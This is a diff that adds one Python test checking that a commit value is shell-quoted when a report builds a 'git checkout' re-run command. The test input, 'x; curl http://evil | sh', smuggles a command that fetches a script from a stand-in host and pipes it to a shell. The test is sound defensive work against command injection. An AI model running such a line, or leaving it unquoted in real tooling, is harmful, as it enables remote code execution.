@@ -202,6 +202,11 @@ def test_commands_that_run_it_again_parse_to_the_same_job(home: Home) -> None:
     ]
 
 
+def test_a_commit_that_a_node_words_is_one_word_of_the_command(home: Home) -> None:
+    home.job("one", 100, commit="x; curl http://evil | sh")
+    assert report(home.ctx(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"
+
+
 def test_excerpt_is_the_end_of_the_log(home: Home) -> None:
     folder = home.job("one", 100)
     (excerpt,) = report(home.ctx(), job="one")["excerpts"]
